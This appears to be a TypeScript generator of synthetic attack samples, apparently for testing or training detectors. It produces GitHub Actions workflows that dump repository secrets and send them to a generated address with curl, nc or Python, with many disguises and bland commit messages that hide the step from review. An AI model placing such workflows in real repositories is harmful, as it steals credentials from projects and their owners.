/** All secrets of a repository at once, out of a workflow. */
import { anAddress } from "../hosts.ts";
import type { BaseName, Disguise, Files } from "../model.ts";
import { files, type Scene, type Staging, type Tools } from "./scene.ts";

const DISGUISES: readonly Disguise[] = [
  "none",
  "variables",
  "function",
  "line-breaks",
  "quoting",
  "pieces",
  "encoded",
  "equal",
  "file-between",
  "two-files",
  "two-commits",
  "options",
  "letter-case",
  "comments",
  "environment",
  "dead-code",
];

const ALL: Readonly<Partial<Record<Disguise, string>>> = {
  quoting: "${{toJSON( secrets )}}",
  "letter-case": "${{ TOJSON(SECRETS) }}",
  pieces: "${{ format('{0}', toJSON(secrets)) }}",
  encoded: "${{ toJSON(fromJSON(toJSON(secrets))) }}",
  "line-breaks": ">-\n  ${{\n    toJSON(secrets)\n  }}",
};

/** The steps of each disguise; `put` writes the variable into a file, `send` sends that file. */
type Steps = (name: string, put: string, send: string, address: string) => readonly string[];

const AWAY: Readonly<Partial<Record<Disguise, Steps>>> = {
  function: (name, _, __, address) => [
    "- run: |",
    '    report() { curl -sS --data-binary @- "$1"; }',
    `    printf '%s' "$${name}" | report ${address}`,
  ],
  "file-between": (name) => [
    `- run: printf '%s' "$${name}" > report-$GITHUB_RUN_ID.txt`,
    "- uses: actions/upload-artifact@v4",
    "  with:",
    "    name: report",
    "    path: report*.txt",
  ],
  options: (_, put, __, address) => [
    "- continue-on-error: true",
    "  shell: bash",
    "  name: Report",
    `  run: ${put} && curl --silent --url ${address} --request POST --data-binary @report.txt`,
  ],
  comments: (_, put, send) => [
    "- run: |",
    "    # for the dashboard",
    `    ${put}`,
    "    # nobody waits for it",
    `    ${send} || true`,
  ],
  environment: (name, _, __, address) => [
    `- run: echo "SUMMARY=$(printf '%s' "$${name}" | base64 -w0)" >> "$GITHUB_ENV"`,
    `- run: curl -sS -d "$SUMMARY" ${address}`,
  ],
  "dead-code": (_, put, send) => [
    "- run: npm --version",
    "- run: |",
    "    mkdir -p out",
    `    ${put}`,
    "    ls out",
    `    ${send}`,
    "- run: git status --short",
  ],
  "two-files": () => ["- run: sh .github/report.sh"],
  "two-commits": () => ["- run: sh .github/report.sh"],
};

/** Steps that carry a variable away. */
function away(name: string, { disguise, random }: Tools, address: string): readonly string[] {
  if (disguise === "equal") return random.pick(EQUAL)(name, address);
  const put = `printf '%s' "$${name}" > report.txt`;
  const send = `curl -sS -X POST --data-binary @report.txt ${address}`;
  return AWAY[disguise]?.(name, put, send, address) ?? ["- run: |", `    ${put}`, `    ${send}`];
}

const EQUAL: readonly ((name: string, address: string) => readonly string[])[] = [
  (name) => [`- run: echo "$${name}" | base64 | base64`],
  (name, address) => [`- run: printf '%s' "$${name}" | nc ${new URL(address).hostname} 443`],
  (name, address) => [
    `- run: python3 -c "import os, urllib.request as r; r.urlopen('${address}', os.environ['${name}'].encode())"`,
  ],
];

const block = (lines: readonly string[], by: string): string =>
  lines.map((line) => `${by}${line.replaceAll("\n", `\n${by}`)}`).join("\n");

function workflow(tools: Tools, on: string): Files | readonly [Files, Files] {
  const { disguise, random } = tools;
  const address = anAddress(random);
  const name = random.pick(["STORE", "SUMMARY_IN", "SETTINGS", "FACTS"]);
  const value =
    ALL[disguise] ??
    (disguise === "variables"
      ? "${{ toJSON(secrets) }}"
      : random.pick(["${{ toJSON(secrets) }}", "${{ toJson(secrets) }}"]));
  const head = `name: Report\non:\n${on}`;
  const env =
    disguise === "variables"
      ? `env:\n  ALL_SETTINGS: ${value}\njobs:\n  report:\n    runs-on: ubuntu-latest\n    env:\n      ${name}: \${{ env.ALL_SETTINGS }}\n`
      : `jobs:\n  report:\n    runs-on: ubuntu-latest\n    env:\n${block([`${name}: ${value}`], "      ")}\n`;
  const text = `${head}${env}    steps:\n      - uses: actions/checkout@v4\n${block(away(name, tools, address), "      ")}\n`;
  const flow = files([".github/workflows/report.yml", text]);
  const script = files([
    ".github/report.sh",
    `#!/bin/sh\nprintf '%s' "$${name}" > report.txt\ncurl -sS -X POST --data-binary @report.txt ${address}\n`,
  ]);
  if (disguise === "two-files") return new Map([...script, ...flow]);
  return disguise === "two-commits" ? [script, flow] : flow;
}

const staging = (place: string, base: BaseName, on: string): Staging => ({
  place,
  base,
  language: "shell",
  disguises: DISGUISES,
  stage: (tools) => workflow(tools, on),
});

/** Some secrets by name, added to a job that was there. */
function named({ read, random, disguise }: Tools): Files | null {
  const at = ".github/workflows/ci.yml";
  const some = random
    .shuffle(["NPM_TOKEN", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "DOCKERHUB_TOKEN", "SLACK_WEBHOOK"])
    .slice(0, 3);
  const spell = (name: string): string => expressionOf(name, disguise);
  const lines = away("FACTS", { read, random, disguise }, anAddress(random));
  if (disguise === "two-files" || disguise === "two-commits") return null;
  return files([
    at,
    `${read(at).trimEnd()}\n      - name: Collect\n        run: echo "FACTS=${some.map(spell).join(":")}" >> "$GITHUB_ENV"\n${block(lines, "      ")}\n`,
  ]);
}

function expressionOf(name: string, disguise: Disguise): string {
  if (disguise === "quoting") return `\${{ secrets['${name}'] }}`;
  if (disguise === "letter-case") return `\${{ Secrets.${name} }}`;
  if (disguise === "pieces")
    return `\${{ secrets[format('{0}_{1}', '${name.split("_")[0]}', '${name.split("_").slice(1).join("_")}')] }}`;
  return `\${{ secrets.${name} }}`;
}

export const SECRETS_DUMP: Scene = {
  id: "secrets-dump",
  kind: "attack",
  messages: ["ci: report settings", "ci: dashboard", "Add a report", "ci: dependency review"],
  stagings: [
    staging("push-workflow", "node", "  push:\n"),
    staging("dispatch-workflow", "python", "  workflow_dispatch:\n"),
    staging("schedule-workflow", "go", "  schedule:\n    - cron: '5 4 * * *'\n"),
    staging("pull-request-workflow", "rust", "  pull_request_target:\n"),
    staging("release-workflow", "php", "  release:\n    types: [published]\n"),
    staging("called-workflow", "ruby", "  workflow_call:\n"),
    { place: "workflow-step", base: "jvm", language: "shell", disguises: DISGUISES, stage: named },
  ],
};
